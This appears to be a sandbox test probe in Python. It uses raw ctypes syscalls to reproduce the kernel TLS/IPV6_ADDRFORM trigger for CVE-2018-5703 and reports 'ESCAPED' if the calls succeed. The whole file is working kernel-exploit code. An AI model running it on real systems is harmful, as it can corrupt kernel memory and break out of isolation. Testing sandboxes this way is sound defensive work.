# expect: error ImportError
# idea: the door is a socket with encryption in the kernel that turns from one version of the protocol to the other
# full: done
# source: CVE-2018-5703
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attempt(what, number, *arguments):
    ctypes.set_errno(0)
    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    got = libc.syscall(ctypes.c_long(number), *wide)
    print(f"ESCAPED: {what} gave {got}" if got >= 0 else f"{what}: errno {ctypes.get_errno()}")
    return got
made = attempt("an IPv6 socket", 41, 10, 1, 6)
attempt("TCP_ULP", 54, made, 6, 31, b"tls", 3)
attempt("IPV6_ADDRFORM", 54, made, 41, 1, (ctypes.c_int * 1)(2), 4)
